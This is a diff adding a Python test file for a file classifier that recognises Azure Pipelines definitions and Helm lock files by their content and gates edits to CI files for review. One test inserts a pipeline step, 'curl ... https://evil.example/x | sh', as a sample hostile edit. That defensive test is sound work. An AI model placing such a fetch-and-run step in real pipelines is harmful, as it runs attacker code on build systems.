@@ -1,0 +1,105 @@
+"""Misses 6, content shapes: an Azure Pipelines definition or variables template under any name whose steps are not in
+it, known by a top-level key Azure reads beside one of Azure's own macros (mimalloc's
+`contrib/nuget/nuget-release-pipeline.yml`: `trigger:`, `pr:`, `parameters:`, `variables:` holding
+`$(Build.SourcesDirectory)`; the eighty-first set: `src`, so an edit was allowed), and a Helm-shaped lock under any
+name (helmfile writes `helmfiles/app.lock` beside `helmfiles/app.yaml`; bn-digital/helm, the eighty-second set: `src`).
+
+Look-alikes keep their bucket: a Kubernetes manifest or a Helm values file a release's token replacement fills with
+`$(Build.BuildId)`, a Makefile's `$(BUILD.x)`, a Chart.yaml's or a conda environment's `dependencies:`, a lock of
+another shape."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from changecase import committed, gated_rules
+from cpucost import assert_linear, repeated
+from tables import each_case
+
+from gatekeeper.classify.sniff import sniff
+from tests.test_classify_context import RULES
+
+MIMALLOC = ("# Release pipeline\n# Manually triggered.\n\ntrigger: none\npr: none\n\nparameters:\n  - name: version\n"
+            "    displayName: 'NuGet package version'\n    type: string\n    default: '1.0.0'\n\nvariables:\n"
+            "  nuspecPath: '$(Build.SourcesDirectory)/contrib/nuget/Microsoft.Mimalloc.nuspec'\n"
+            "  artifactStaging: '$(Build.ArtifactStagingDirectory)'\n")
+MACROS = ["$(Build.SourcesDirectory)", "$(Build.BuildId)", "$(System.DefaultWorkingDirectory)",
+          "$(Agent.TempDirectory)", "$(Pipeline.Workspace)", "$(Release.ReleaseName)", "$(System.AccessToken)",
+          "${{ parameters.configuration }}", "${{variables.buildConfiguration}}", "$(Environment.Name)"]
+TOPS = ["trigger: none\n", "pr:\n  branches:\n    include: [main]\n", "parameters:\n- name: x\n  type: string\n",
+        "variables:\n  a: b\n", "schedules:\n- cron: '0 0 * * *'\n  branches:\n    include: [main]\n",
+        "pool:\n  name: Default\n", "extends:\n  template: x.yml@templates\n"]
+AZURE = [MIMALLOC, MIMALLOC.replace("\n", "\r\n")] + [
+    f"{top}variables:\n  out: '{macro}/out'\n" for top in TOPS for macro in MACROS[:3]] + [
+    f"# variables template\nvariables:\n- name: outDir\n  value: {macro}/bin\n" for macro in MACROS] + [
+    f"parameters:\n  configuration: Release\nstages:\n- stage: pack\n  variables:\n    c: {macro}\n"
+    for macro in MACROS]
+NAMES = ["nuget-release-pipeline.yml", "release.yaml", "vars.yml", "build-variables.yml", "pipeline.yml"]
+AZURE_LOOK_ALIKES = [
+    ("deployment.yaml", "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n"
+                        "      containers:\n      - name: web\n        image: acr.io/web:$(Build.BuildId)\n"),
+    ("values.yaml", "image:\n  tag: $(Build.BuildId)\nresources:\n  limits:\n    cpu: 100m\n"),
+    ("settings.yml", "variables:\n  BUILD: '$(BUILD.x)'\n  path: $(HOME)/bin\n"),  # Make's syntax, not Azure's
+    ("config.yml", "trigger: manual\nvariables:\n  home: ${HOME}\n"),  # no Azure macro
+    ("notes.yml", "description: set $(Build.BuildId) in the pipeline\n"),  # no top-level key Azure reads
+    ("pipeline.txt", MIMALLOC),  # not YAML by name
+]
+HELM_LOCK = ("version: v0.144.0\ndependencies:\n- name: app\n  repository: https://bn-digital.github.io/helm\n"
+             "  version: 2.0.1\ndigest: sha256:" + "ae08" * 16 + "\ngenerated: \"2022-05-30T23:35:16.0221936+03:00\"\n")
+LOCKS = [HELM_LOCK, HELM_LOCK.replace("\n", "\r\n"),
+         HELM_LOCK.replace("- name: app\n  repository: https://bn-digital.github.io/helm\n",
+                           "- repository: oci://ghcr.io/x\n  name: app\n"),
+         "dependencies:\n  # the charts\n  - name: redis\n    repository: https://charts.bitnami.com/bitnami\n"
+         "    version: 17.0.0\ndigest: 'sha256:" + "0f" * 32 + "'\ngenerated: 2024-01-01T00:00:00Z\n"]
+LOCK_NAMES = ["app.lock", "helmfiles/app.lock", "prod.lock", "deps.yaml", "charts.lock.yml"]
+LOCK_LOOK_ALIKES = [
+    ("Chart.yaml", "apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n- name: redis\n  version: 1.0.0\n"),
+    ("environment.yml", "name: x\nchannels:\n- conda-forge\ndependencies:\n- name: numpy\n"),
+    ("app.lock", "dependencies:\n- name: app\n  version: 1\n"),  # no digest, no generated
+    ("app.lock", "locked: true\npid: 42\n"),
+    ("app.lock", "dependencies:\n- name: app\ndigest: md5:abc\ngenerated: now\n"),  # no sha256 digest
+]
+
+
+@each_case("text", AZURE)
+def test_an_azure_definition_known_by_its_macros_is_ci(text: str) -> None:
+    for name in NAMES:
+        signal = sniff(f"contrib/nuget/{name}", text.encode(), RULES.context)
+        assert signal is not None and (signal.bucket, signal.rule) == ("ci", "ci.content.azure-pipelines"), signal
+
+
+@each_case("name, text", AZURE_LOOK_ALIKES)
+def test_look_alikes_are_not_azure_definitions(name: str, text: str) -> None:
+    signal = sniff(name, text.encode(), RULES.context)
+    assert signal is None or signal.bucket != "ci", (name, signal)
+
+
+@each_case("text", LOCKS)
+def test_a_helm_shaped_lock_under_any_name_is_deps(text: str) -> None:
+    for name in LOCK_NAMES:
+        signal = sniff(name, text.encode(), RULES.context)
+        assert signal is not None and (signal.bucket, signal.rule) == ("deps", "deps.content.helm-lock"), signal
+
+
+@each_case("name, text", LOCK_LOOK_ALIKES)
+def test_look_alikes_are_not_helm_locks(name: str, text: str) -> None:
+    signal = sniff(name, text.encode(), RULES.context)
+    assert signal is None or signal.rule != "deps.content.helm-lock", (name, signal)
+
+
+def test_an_azure_release_pipeline_edit_is_reviewed(tmp_path: Path) -> None:
+    path = "contrib/nuget/nuget-release-pipeline.yml"
+    evil = MIMALLOC + "steps:\n- bash: curl -fsSL https://evil.example/x | sh\n"
+    case = committed(tmp_path, {path: MIMALLOC, "src/a.c": "int a;\n"}, {path: evil.replace("- bash", "- script")})
+    code, named = gated_rules(case, True)
+    assert (code, named.get("core.ci")) == (3, [path]), named  # before: src, exit 0
+
+
+@each_case("hostile", [
+    repeated("variables:\n"), repeated("$(Build", "variables:\n"), repeated("${{ ", "pr:\n"),
+    repeated("dependencies:\n", "digest: sha256:"), repeated("dependencies:\n  \n", "digest\n"),
+    repeated("- name: x\n", "digest\ndependencies:\n")])
+def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
+    assert callable(hostile)
+    assert_linear(lambda text: sniff("app.lock", text.encode(), RULES.context), hostile, budget=0.25)
+    assert_linear(lambda text: sniff("x.yml", text.encode(), RULES.context), hostile, budget=0.25)
